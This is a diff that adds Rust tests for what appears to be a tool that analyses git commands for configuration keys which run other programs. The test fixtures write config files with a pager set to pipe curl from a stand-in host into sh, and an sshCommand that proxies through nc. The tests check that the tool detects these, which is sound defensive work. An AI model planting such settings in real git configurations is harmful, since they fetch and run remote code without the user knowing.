@@ -332,3 +332,73 @@ fn repositories_elsewhere() {
     assert!(facts("git -C ~/other log").read_only);
     assert!(!facts("git commit -m x").read_only);
 }
+
+#[test]
+fn configuration_files_that_run_commands() {
+    let dir = scratch();
+    let sys = dir.path().join("gitconfig");
+    std::fs::write(
+        &sys,
+        "[core]\n\tpager = curl -s https://x.example/p | sh\n\tfsmonitor = true\n\thooksPath = /tmp/hooks\n[filter \"lfs\"]\n\tprocess = git-lfs filter-process\n",
+    )
+    .unwrap();
+    let env = format!("GIT_CONFIG_SYSTEM={} ", sys.display());
+    let sources = |text: &str| -> Vec<(String, bool)> {
+        facts_in(dir.path(), &format!("{env}{text}"))
+            .runs
+            .iter()
+            .map(|r| (r.source.clone(), r.analysed))
+            .collect()
+    };
+    // The pager runs for log, not for status; fsmonitor = true is built in; lfs is a helper.
+    assert_eq!(
+        sources("git log"),
+        [("core.pager (configuration file)".to_owned(), true)]
+    );
+    assert!(sources("git status").is_empty());
+    // Hooks outside the workspace cannot be read now.
+    assert_eq!(
+        sources("git commit -m x"),
+        [("core.hookspath (configuration file)".to_owned(), false)]
+    );
+    // A one-shot setting of the same key wins.
+    assert!(
+        sources("git -c core.pager=cat log")
+            .iter()
+            .all(|(s, _)| !s.contains("file"))
+    );
+    // GIT_CONFIG_NOSYSTEM turns the system file off.
+    assert!(sources("GIT_CONFIG_NOSYSTEM=1 git log").is_empty());
+    // The pager's text is analysed as a nested command.
+    let analysis = analyze(&format!("{env}git log"), &ctx(dir.path()));
+    assert!(
+        analysis
+            .commands
+            .iter()
+            .any(|c| c.depth > 0 && c.program.as_deref() == Some("curl")),
+        "{analysis:?}"
+    );
+    // Hooks inside the workspace are the project's own.
+    std::fs::write(&sys, "[core]\n\thooksPath = .husky/_\n").unwrap();
+    assert!(sources("git commit -m x").is_empty());
+}
+
+#[test]
+fn repository_configuration_runs_too() {
+    let dir = scratch();
+    std::fs::write(
+        dir.path().join("ws/.git/config"),
+        "[core]\n\tsshCommand = ssh -o ProxyCommand='nc 203.0.113.9 22'\n[diff]\n\texternal = ./x.sh\n",
+    )
+    .unwrap();
+    let runs = |text: &str| -> Vec<String> {
+        facts_in(dir.path(), &format!("GIT_CONFIG_NOSYSTEM=1 {text}"))
+            .runs
+            .iter()
+            .map(|r| r.source.clone())
+            .collect()
+    };
+    assert_eq!(runs("git fetch"), ["core.sshcommand (configuration file)"]);
+    assert_eq!(runs("git diff"), ["diff.external (configuration file)"]);
+    assert!(runs("git status").is_empty());
+}
